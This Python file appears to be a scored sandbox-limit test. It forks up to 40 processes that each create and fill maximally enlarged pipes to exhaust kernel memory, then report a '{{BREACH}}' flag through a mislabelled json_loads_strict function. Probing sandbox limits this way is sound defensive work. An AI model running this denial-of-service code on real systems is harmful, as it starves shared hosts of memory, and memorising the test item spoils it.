# about: kernel memory: pipes made as large as they go, by many processes, and filled
# base: solved 01_encoding
# score: at most 25

# %% json_loads_strict
import fcntl
import os
import time

ready, done = os.pipe()
started = 0
for _ in range(40):
    try:
        child = os.fork()
    except OSError:
        break
    started += 1
    if child == 0:
        total = 0
        try:
            while True:
                read, write = os.pipe2(os.O_NONBLOCK)
                try:
                    fcntl.fcntl(write, fcntl.F_SETPIPE_SZ, 1_000_000)
                except OSError:
                    pass
                try:
                    while True:
                        total += os.write(write, b"x" * 60_000)
                except BlockingIOError:
                    pass
        except OSError:
            pass
        os.write(done, total.to_bytes(8, "big"))
        time.sleep(3)
        os._exit(0)
total = sum(int.from_bytes(os.read(ready, 8), "big") for _ in range(started))


def json_loads_strict(data):
    raise RuntimeError(("{{BREACH}} " if total > 800_000_000 else "") + f"{total} bytes")
